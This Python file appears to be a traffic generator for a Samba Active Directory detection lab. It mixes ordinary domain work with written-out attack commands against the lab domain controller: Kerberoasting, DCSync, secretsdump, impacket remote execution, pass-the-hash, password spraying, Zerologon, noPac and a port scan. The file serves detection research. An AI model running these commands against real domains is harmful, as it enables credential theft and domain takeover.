#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""scenes.py - what is played in the lab: ordinary work and attacks, each with the host that it happens on and the accounts that
really act in it. A scene is a shell script, run on its host by `play`; what its tools say, and whether the attack works against
Samba, does not matter here: what is on the wire does.
"""
import os
import shlex
import subprocess

import lab

HERE = os.path.dirname(os.path.abspath(__file__))
IMPACKET = "/usr/share/doc/python3-impacket/examples"
SECONDS = 40     # a scene that takes longer is ended

# Tickets of a scene are its own; CONTROLLER ... are its names for the domain.
PROLOGUE = """
export KRB5CCNAME=/run/host/tickets-$$; trap 'rm -rf /run/host/tickets-$$ $W' EXIT
W=$(mktemp -d /run/host/scene.XXXXXX); cd $W
DC=dc1.%(domain)s; DN=%(base)s; ADMIN='%(admin)s%%%(password)s'
ticket() { printf '%%s\\n' "$2" | kinit "${@:3}" "$1@%(realm)s"; }
impacket() { local s=$1; shift; timeout 20 %(python)s %(impacket)s/$s.py "$@"; }
search() { ldapsearch -LLL -H ldap://$DC -b "$DN" "$@"; }
ldif() { ldapmodify -x -c -H ldap://$DC "$@"; }
as_admin() { ldif -D %(admin)s@%(domain)s -w '%(password)s'; }
as_dadmin() { ldif -D dadmin@%(domain)s -w 'Dadmin.Pass1!'; }
as_user01() { search -x -D user01@%(domain)s -w 'User.Pass01!' "$@"; }
"""

ADMIN, DADMIN = lab.ADMINISTRATOR, "dadmin"
CHURN = {"newbie", "evil2", "EVILPC$", "NOPAC$", "WSNEW$"}     # accounts that exist within a scene only


class Scene:
    def __init__(self, name, host, accounts, script, computer=None, attack=False, joins=False):
        """`accounts`: who acts. `computer`: who is behind the host's address from this scene on, when that changes; "" is nobody
        in particular. `joins`: it becomes a computer of the domain within the scene."""
        self.name, self.host, self.accounts, self.script = name, host, set(accounts), script
        self.computer, self.attack, self.joins = computer, attack, joins


def ordinary():
    def work(name, accounts, script, host="client"):
        return Scene(name, host, accounts, script)

    yield work("logon", ["user01"], "ticket user01 'User.Pass01!'")
    yield work("logon mistyped", ["user02"], "ticket user02 oops; ticket user02 'User.Pass02!'")
    yield work("service tickets", ["user01"], "ticket user01 'User.Pass01!'; kvno cifs/$DC ldap/$DC HTTP/web01.corp.example")
    yield work("LDAP by Kerberos", ["user01"], "ticket user01 'User.Pass01!'; search -Y GSSAPI '(sAMAccountName=user07)' mail")
    yield work("LDAP by password", ["user01"], "as_user01 '(sAMAccountName=user07)' mail")
    yield work("LDAPS", ["user03"], "LDAPTLS_REQCERT=never ldapsearch -x -D user03@corp.example -w 'User.Pass03!' -H ldaps://$DC "
               "-b \"$DN\" '(sAMAccountName=user07)' mail")
    yield work("LDAP StartTLS", ["user03"], "LDAPTLS_REQCERT=never search -ZZ -x -D user03@corp.example -w 'User.Pass03!' "
               "'(sAMAccountName=user07)' mail")
    yield work("share by Kerberos", ["user04"], "ticket user04 'User.Pass04!'; smbclient --use-krb5-ccache=$KRB5CCNAME //$DC/sysvol "
               "-c 'ls; cd corp.example; ls'")
    yield work("share by NTLM", ["user05"], "smbclient -U 'CORP\\user05%User.Pass05!' //$DC/netlogon -c ls")
    yield work("share, wrong password", ["user05"], "smbclient -U 'CORP\\user05%bad' //$DC/netlogon -c ls")
    yield work("password by kpasswd", ["user06"], "printf 'User.Pass06!\\nNew.User06!x\\nNew.User06!x\\n' | kpasswd user06; "
               "printf 'New.User06!x\\nUser.Pass06!\\nUser.Pass06!\\n' | kpasswd user06")
    yield work("password by SAMR", ["user07"], "samba-tool user password -Uuser07%'User.Pass07!' --newpassword='New.User07!x' "
               "--ipaddress=$(dig +short $DC) -W CORP; samba-tool user password -Uuser07%'New.User07!x' "
               "--newpassword='User.Pass07!' --ipaddress=$(dig +short $DC) -W CORP")
    yield work("help desk", [ADMIN], "samba-tool user setpassword user08 --newpassword='User.Pass08!' -H ldap://$DC -U$ADMIN")
    yield work("net rpc", [ADMIN], "net rpc info -S $DC -U$ADMIN; net rpc user -S $DC -U$ADMIN; "
               "net rpc group members 'Domain Admins' -S $DC -U$ADMIN")
    yield work("lists", [ADMIN], "samba-tool user list -H ldap://$DC -U$ADMIN; samba-tool group listmembers 'Domain Admins' "
               "-H ldap://$DC -U$ADMIN")
    yield work("DNS", [], "dig _ldap._tcp.dc._msdcs.corp.example SRV; dig $DC A; dig corp.example SOA; "
               "dig _kerberos._tcp.corp.example SRV")
    yield Scene("join", "newcomer", [ADMIN, "WSNEW$"], "printf '[global]\\nworkgroup=CORP\\nrealm=CORP.EXAMPLE\\nsecurity=ads\\n"
                "netbios name=WSNEW\\nprivate dir='$W'\\nlock dir='$W'\\nstate directory='$W'\\ncache directory='$W'\\n"
                "pid directory='$W'\\n' >$W/j.conf; net ads join -s $W/j.conf -U$ADMIN --no-dns-updates; sleep 3; "
                "net ads testjoin -s $W/j.conf; net ads leave -s $W/j.conf -U$ADMIN", computer="WSNEW", joins=True)
    yield work("group", [ADMIN], "samba-tool group addmembers VPN-Users user45 -H ldap://$DC -U$ADMIN; "
               "samba-tool group removemembers VPN-Users user45 -H ldap://$DC -U$ADMIN")
    yield work("life of a user", [ADMIN], "samba-tool user create newbie 'New.Bie123!' -H ldap://$DC -U$ADMIN; "
               "samba-tool user disable newbie -H ldap://$DC -U$ADMIN; samba-tool user delete newbie -H ldap://$DC -U$ADMIN")
    yield work("DNS administration", [ADMIN], "samba-tool dns zonelist $DC -U$ADMIN; samba-tool dns add $DC corp.example rec1 A "
               "10.1.9.9 -U$ADMIN; samba-tool dns delete $DC corp.example rec1 A 10.1.9.9 -U$ADMIN")
    yield work("DC locator", [ADMIN], "rpcclient -U$ADMIN ncacn_np:$DC -c 'getdcname CORP; dsr_getdcname corp.example'")
    yield work("host names", ["WS01$"], "ticket 'WS01$' 'Computer.Pass01!'; printf 'server dc1.corp.example\\nzone corp.example\\n"
               "update add ws01.corp.example 900 A %s\\nsend\\n' $(hostname -I) | nsupdate -g")
    yield Scene("replication", "dc2", [ADMIN, "DC2$"],
                "samba-tool drs replicate dc2.corp.example $DC \"$DN\" -U$ADMIN --sync-forced")


def attacks():
    def attack(name, accounts, script):
        return Scene(name, "attacker", accounts, script, attack=True)

    yield attack("Kerberoasting", ["user01"], "ticket user01 'User.Pass01!'; search -Y GSSAPI "
                 "'(&(servicePrincipalName=*)(!(objectClass=computer)))' servicePrincipalName; "
                 "kvno -e arcfour-hmac MSSQLSvc/sql01.corp.example:1433 HTTP/web01.corp.example backup/bk01.corp.example")
    yield attack("honeytoken", ["user01"], "ticket user01 'User.Pass01!'; kvno HTTP/honey.corp.example")
    yield attack("AS-REP roasting", ["user01", "asrep1", "nobody", "user02"],
                 "for u in user01 asrep1 nobody user02; do echo $u; done >$W/u; impacket GetNPUsers corp.example/ -usersfile $W/u "
                 "-no-pass -dc-ip $DC")
    yield attack("DCSync", [DADMIN], "%s %s $DC dadmin 'Dadmin.Pass1!' krbtgt" % (lab.PYTHON, shlex.quote(HERE + "/dcsync.py")))
    yield attack("secretsdump", [ADMIN], "impacket secretsdump CORP/%s:%s@$DC -just-dc" % (ADMIN, lab.PASSWORD))
    yield attack("samrdump", ["user01"], "impacket samrdump CORP/user01:'User.Pass01!'@$DC")
    yield attack("lookupsid", ["user01"], "impacket lookupsid CORP/user01:'User.Pass01!'@$DC 1200")
    yield attack("sessions", ["user01"], "rpcclient -U'CORP\\user01%User.Pass01!' $DC -c 'netshareenum 1; netsessenum'; "
                 "impacket netview CORP/user01:'User.Pass01!' -target $DC -dc-ip $DC -noloop")
    yield attack("local administrators", ["user01"], "rpcclient -U'CORP\\user01%User.Pass01!' $DC -c 'enumalsgroups builtin; "
                 "queryaliasmem builtin 0x220; querygroupmem 0x200; enumdomusers'")
    for tool, more in (("psexec", "whoami"), ("smbexec", ""), ("atexec", "whoami"), ("wmiexec", "whoami"), ("services", "list")):
        yield attack(tool, [ADMIN], "impacket %s CORP/%s:%s@$DC %s </dev/null" % (tool, ADMIN, lab.PASSWORD, more))
    yield attack("pass the hash", ["user20"], "h=$(%s -c \"from samba.credentials import Credentials; c = Credentials(); "
                 "c.set_password('User.Pass20!'); print(c.get_nt_hash().hex())\"); impacket smbclient CORP/user20@$DC -hashes :$h "
                 "</dev/null" % lab.PYTHON)
    yield attack("brute force by Kerberos", ["user35"], "for i in $(seq 15); do ticket user35 bad$i; done; "
                 "ticket user35 'User.Pass35!'")
    yield attack("brute force by NTLM", ["user31"], "for i in $(seq 10); do smbclient -U \"CORP\\user31%bad$i\" //$DC/netlogon -c "
                 "ls; done; smbclient -U 'CORP\\user31%User.Pass31!' //$DC/netlogon -c ls")
    spray = {"user%02d" % i for i in range(1, 51)}
    yield attack("spray by Kerberos", spray, "for i in $(seq -w 1 50); do ticket user$i 'User.Pass17!'; done")
    yield attack("spray by NTLM", spray, "for i in $(seq -w 1 20); do smbclient -U \"CORP\\user$i%User.Pass18!\" //$DC/netlogon "
                 "-c ls; done")
    yield attack("spray by LDAP", spray, "for i in $(seq -w 1 40); do ldapsearch -x -H ldap://$DC -D user$i@corp.example -w "
                 "'User.Pass19!' -s base -b '' dn; done")
    yield attack("names guessed", {"guess%02d" % i for i in range(1, 31)} | {"user01", "user02"},
                 "for u in $(seq -f guess%02g 1 30) user01 user02; do kinit $u </dev/null; done")
    yield attack("BloodHound", ["user01"], "as_user01 -E pr=1000/noprompt -E '!1.2.840.113556.1.4.801=::MAMCAQc=' "
                 "'(|(objectClass=user)(objectClass=group)(objectClass=computer)(objectClass=organizationalUnit))' sAMAccountName "
                 "objectSid member nTSecurityDescriptor >/dev/null; as_user01 '(objectclass=trusteddomain)'")
    yield attack("telling filters", ["user01"], "for f in '(userAccountControl:1.2.840.113556.1.4.803:=524288)' '(adminCount=1)' "
                 "'(msDS-AllowedToDelegateTo=*)' '(memberOf:1.2.840.113556.1.4.1941:=CN=Domain Admins,CN=Users,DC=corp,DC=example)'; "
                 "do as_user01 \"$f\" sAMAccountName; done")
    yield attack("anonymous LDAP", [], "ldapsearch -x -H ldap://$DC -s base -b '' '*' +; search -x '(objectClass=user)'")
    yield attack("zone transfer", [], "dig @$DC corp.example AXFR; dig @$DC _msdcs.corp.example AXFR")
    yield attack("DNS by LDAP", ["user01"], "ldapsearch -x -LLL -D user01@corp.example -w 'User.Pass01!' -H ldap://$DC "
                 "-b DC=corp.example,CN=MicrosoftDNS,DC=DomainDnsZones,$DN '(objectClass=dnsNode)' dnsRecord name")
    yield attack("record of a plain user", ["user01"], "ticket user01 'User.Pass01!'; printf 'server dc1.corp.example\\nzone "
                 "corp.example\\nupdate add evilpad.corp.example 300 A %s\\nsend\\n' $(hostname -I) | nsupdate -g")
    yield attack("Zerologon", ["DC1$"], "%s %s zerologon $DC DC1 30" % (lab.PYTHON, shlex.quote(HERE + "/rpc_scene.py")))
    yield attack("backup key", [ADMIN], "%s %s backupkey $DC %s %s" % (lab.PYTHON, shlex.quote(HERE + "/rpc_scene.py"), ADMIN,
                                                                      lab.PASSWORD))
    yield attack("printer bug", ["user01"], "rpcclient -U'CORP\\user01%User.Pass01!' $DC -c 'enumprinters; getprinter dc1'")
    yield attack("Domain Admins by LDAP", [DADMIN], "for w in add delete; do printf 'dn: CN=Domain Admins,CN=Users,%s\\nchangetype: "
                 "modify\\n%s: member\\nmember: CN=user33,OU=Staff,%s\\n' $DN $w $DN | as_dadmin; done")
    yield attack("Domain Admins by RPC", [DADMIN], "net rpc group addmem 'Domain Admins' user34 -S $DC -U 'CORP\\dadmin%Dadmin.Pass1!'; "
                 "net rpc group delmem 'Domain Admins' user34 -S $DC -U 'CORP\\dadmin%Dadmin.Pass1!'")
    yield attack("account by RPC", [DADMIN], "rpcclient -U'CORP\\dadmin%Dadmin.Pass1!' $DC -c 'createdomuser evil2; deletedomuser "
                 "evil2'")
    yield attack("machine account", ["user01", DADMIN, ADMIN],
                 "impacket addcomputer -method SAMR -computer-name 'EVILPC$' -computer-pass 'Evil.Pc123!' -dc-ip $DC -dc-host $DC "
                 "CORP/user01:'User.Pass01!'; impacket addcomputer -method SAMR -computer-name 'EVILPC$' -computer-pass "
                 "'Evil.Pc123!' -dc-ip $DC -dc-host $DC CORP/dadmin:'Dadmin.Pass1!'; printf 'dn: CN=EVILPC,CN=Computers,%s\\n"
                 "changetype: delete\\n' $DN | as_admin")
    yield attack("downgrade", ["user10"], "sed 's/^.libdefaults./&\\n default_tkt_enctypes = arcfour-hmac\\n permitted_enctypes = "
                 "arcfour-hmac aes256-cts/' $KRB5_CONFIG >$W/k.conf; export KRB5_CONFIG=$W/k.conf; ticket user10 'User.Pass10!'")
    yield attack("SPN on an administrator", [ADMIN, "user01"],
                 "printf 'dn: CN=dadmin,OU=Staff,%s\\nchangetype: modify\\nadd: servicePrincipalName\\nservicePrincipalName: "
                 "HTTP/evil.corp.example\\n' $DN | as_admin; ticket user01 'User.Pass01!'; kvno -e arcfour-hmac "
                 "HTTP/evil.corp.example; printf 'dn: CN=dadmin,OU=Staff,%s\\nchangetype: modify\\ndelete: servicePrincipalName\\n' "
                 "$DN | as_admin")
    yield attack("delegation", ["svc_web", "user02"], "ticket svc_web 'Iis.Service9!' -f; kvno -U user02 svc_web; kvno -P -U user02 cifs/$DC")
    yield attack("DCShadow", [ADMIN], "printf 'dn: CN=ROGUE,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,%s\\n"
                 "changetype: add\\nobjectClass: server\\n\\ndn: CN=ROGUE,CN=Servers,CN=Default-First-Site-Name,CN=Sites,"
                 "CN=Configuration,%s\\nchangetype: delete\\n' $DN $DN | as_admin")
    yield attack("DirSync", [ADMIN], "search -x -D %s@corp.example -w %s -E '!1.2.840.113556.1.4.841=::MAwCAQACAwCgAAQA' "
                 "'(objectClass=user)' sAMAccountName >/dev/null" % (ADMIN, lab.PASSWORD))
    yield attack("disabled", ["Guest", "krbtgt"], "ticket Guest x; ticket krbtgt x; smbclient -U 'CORP\\Guest%x' //$DC/netlogon -c ls")
    yield attack("port scan", [], "for p in $(seq 1 120) 389 445 3268 3389 5985; do timeout 1 bash -c \"exec 3<>/dev/tcp/$DC/$p\" "
                 "2>/dev/null; done")
    yield attack("noPac", [DADMIN, ADMIN], "impacket addcomputer -method SAMR -computer-name 'NOPAC$' -computer-pass 'No.Pac.123!' "
                 "-dc-ip $DC -dc-host $DC CORP/dadmin:'Dadmin.Pass1!'; printf 'dn: CN=NOPAC,CN=Computers,%s\\nchangetype: modify\\n"
                 "replace: sAMAccountName\\nsAMAccountName: DC1\\n' $DN | as_dadmin; printf 'dn: CN=NOPAC,CN=Computers,%s\\n"
                 "changetype: delete\\n' $DN | as_admin")


def machines():
    """Computers that start, stay, go, and share an address."""
    def start(number, host, more=""):
        name = "WS%02d$" % number
        return Scene("%s starts" % name[:-1], host, [name], "ticket '%s' 'Computer.Pass%02d!'; kvno ldap/$DC cifs/$DC; %s" %
                     (name, number, more), computer=name[:-1])

    yield start(1, "client", "search -Y GSSAPI -s base '(objectClass=*)' dn")
    yield start(2, "guest")
    yield Scene("at WS02", "guest", ["user11"], "ticket user11 'User.Pass11!'; smbclient --use-krb5-ccache=$KRB5CCNAME "
                "//$DC/netlogon -c ls; dig $DC")
    # the lease has ended: another has the address now
    yield start(4, "guest")
    yield Scene("at WS04", "guest", ["user12"], "ticket user12 'User.Pass12!'; search -Y GSSAPI '(sAMAccountName=user01)' mail; "
                "dig $DC")
    # three behind one address: nobody in particular
    for number in (5, 6, 7):
        yield start(number, "gateway")
    yield Scene("behind the gateway", "gateway", ["user13"], "ticket user13 'User.Pass13!'; dig $DC; smbclient "
                "--use-krb5-ccache=$KRB5CCNAME //$DC/netlogon -c ls", computer="")
    # nothing but persons' logons come from it; it answers who asks for its name
    yield Scene("at WS03, which was on already", "silent", ["user14"], "ticket user14 'User.Pass14!'; search -Y GSSAPI "
                "'(sAMAccountName=user01)' mail", computer="WS03")
    yield Scene("still at WS03", "silent", ["user15"], "sleep 4; smbclient -U 'CORP\\user15%User.Pass15!' //$DC/netlogon -c ls; "
                "dig $DC")


def everything():
    return [*machines(), *ordinary(), *attacks()]


def missing():
    return [] if os.path.isdir(IMPACKET) else ["impacket (python3-impacket): its scenes are empty"]


def play(l, scene):
    """What its tools said."""
    script = PROLOGUE % {"domain": lab.DOMAIN, "base": lab.BASE, "realm": lab.REALM, "admin": lab.ADMINISTRATOR,
                         "password": lab.PASSWORD, "python": lab.PYTHON, "impacket": IMPACKET} + scene.script
    try:
        r = subprocess.run(l.net.inside(scene.host) + ["bash", "-c", script], stdin=subprocess.DEVNULL, capture_output=True,
                           text=True, errors="replace", timeout=SECONDS)
    except subprocess.TimeoutExpired:
        return "ended after %d s" % SECONDS
    return r.stdout[-2000:] + r.stderr[-2000:]


def answer_for_its_name(l, host, name):
    """A NetBIOS name service on the host, as every Windows has one. The process."""
    place = "/run/host"
    config = "[global]\nworkgroup = %s\nnetbios name = %s\nserver string =\ninterfaces = eth0\nbind interfaces only = yes\n" \
             "load printers = no\n" % (lab.NETBIOS, name)
    config += "".join("%s = %s\n" % (d, place) for d in ("private dir", "lock directory", "state directory", "cache directory",
                                                         "pid directory"))
    l.run(host, ["sh", "-c", "cat >%s/nmb.conf" % place], input=config)
    return l.spawn(host, ["nmbd", "-F", "--no-process-group", "-s", place + "/nmb.conf", "--log-basename=" + place],
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
